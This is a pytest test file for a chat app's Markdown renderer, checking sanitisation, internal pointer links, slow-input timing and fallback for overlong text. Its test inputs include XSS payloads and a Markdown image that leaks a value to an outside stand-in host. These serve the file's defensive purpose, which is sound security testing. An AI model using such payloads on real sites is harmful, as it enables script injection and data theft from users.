"""Replies are Markdown; none of it can become markup or addresses of its own."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from chat.markdown import LONGEST, render_markdown
from tests.slow_texts import times_slower

TAGS = (
    "a blockquote br code div em h3 h4 h5 h6 hr li ol p pre s strong table tbody td th thead tr ul"
).split()


def tags_of(html):
    return re.findall(r"<\s*/?\s*([a-z0-9!?-]+)", html)


@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "![pixel](https://elsewhere.example/?said=secret)",
        "[click](javascript:alert(1))",
        "[click](JaVaScRiPt&#58;alert(1))",
        "[click](data:text/html;base64,PHNjcmlwdD4=)",
        "[click](vbscript:x)",
        "<javascript:alert(1)>",
        '[x](https://a.example "on"onmouseover=alert(1)")',
        '```"><script>alert(1)</script>\ncode\n```',
        "# <b onclick=x>big</b>",
        "|<i>|\n|-|\n|<svg onload=x>|",
        "[a]: javascript:alert(1)\n\n[a]",
    ],
)
def test_nothing_of_it_runs_or_loads(text):
    html = render_markdown(text)
    assert set(tags_of(html)) <= set(TAGS)
    assert not re.search(r"<[^>]*(?:javascript|vbscript|data):", html, re.IGNORECASE)
    assert not re.search(r"<[^>]*\son\w+\s*=", re.sub(r'"[^"]*"', '""', html))


@given(st.text(alphabet=st.sampled_from("<>\"'&[]()!*_`#-|\n ax:/js§W-1RD="), max_size=80))
def test_whatever_is_written_only_known_tags_come_out(text):
    assert set(tags_of(render_markdown(text))) <= set(TAGS)


def test_what_models_write_is_shown():
    html = render_markdown(
        "# Plan\n\n1. *first*\n2. `x<y`\n\n```py\nif a < b:\n```\n\n|a|\n|-|\n|1|"
    )
    assert "<h3>Plan</h3>" in html
    assert "<em>first</em>" in html
    assert "<code>x&lt;y</code>" in html
    assert '<pre tabindex="0"><code class="language-py"><span class="code-k">if</span>' in html
    assert '<div class="table" tabindex="0"' in html


def test_pointers_that_were_given_become_links():
    places = {"§ W-002/R-01/D-003": "/memory/drawer/x/"}
    html = render_markdown("See [§ W-002/R-01/D-003], (w-2/r-1/d-3), § W-009/R-01/D-001.", places)
    assert html.count('href="/memory/drawer/x/"') == 2
    assert "§ W-009/R-01/D-001" in html


def test_a_pointer_in_code_stays_as_it_is():
    places = {"§ W-002/R-01/D-003": "/memory/drawer/x/"}
    html = render_markdown("`§ W-002/R-01/D-003`", places)
    assert "/memory/drawer/x/" not in html


@pytest.mark.parametrize(
    "written", ["§ W-002/R-01/D-003", "see **§ W-2/R-1/D-3**", "`W-2/R-1/D-3`"]
)
def test_what_looks_like_a_pointer_leads_nowhere_else(written):
    places = {"§ W-002/R-01/D-003": "/memory/drawer/x/"}
    html = render_markdown(f"[{written}](https://a.example) [other](https://b.example)", places)
    assert "a.example" not in html
    assert ("/memory/drawer/x/" in html) == ("`" not in written)
    assert 'href="https://b.example" rel="noopener noreferrer nofollow"' in html
    assert "a.example" not in render_markdown(f"[{written}](https://a.example)")


HARD = ["[", "*_", "`", "> ", "a\n", "|a\n|-\n", "[a](", "*a **b ", "![", "- - ", "[a]\n", "<a"]


@pytest.mark.exhaustive
@pytest.mark.parametrize("text", HARD)
def test_a_text_made_to_be_slow_takes_time_by_its_length(text):
    times_slower(render_markdown, lambda size: (text * size)[:size], 2_000)


def test_what_is_too_long_to_be_drawn_is_shown_as_it_was_written():
    text = "*a*\n" * LONGEST
    html = render_markdown(text + "<script> & *the end*")
    drawn, _, rest = html.partition('<div class="unformatted">')
    assert drawn.count("<em>a</em>") == LONGEST // 4
    assert rest.endswith("&lt;script&gt; &amp; *the end*</div>")
    assert rest.count("*a*") == LONGEST - LONGEST // 4
    assert "x</div>" in render_markdown("x" * (LONGEST + 1))
    assert "unformatted" not in render_markdown("x" * LONGEST)


def test_deep_nesting_ends_somewhere():
    assert render_markdown("> " * 5000 + "deep")
    assert render_markdown("[" * 5000)
    assert render_markdown("*a **b " * 2000)


def test_code_is_coloured_by_classes_and_stays_text():
    html = render_markdown('```python\nprint("<b>")  # §\n```\n\n```nonsense\n<b>\n```')
    assert '<span class="code-nb">print</span>' in html
    assert "&lt;b&gt;" in html
    assert "style=" not in html
    assert set(tags_of(html)) <= {*TAGS, "span"}
    assert '<code class="language-nonsense">&lt;b&gt;' in html
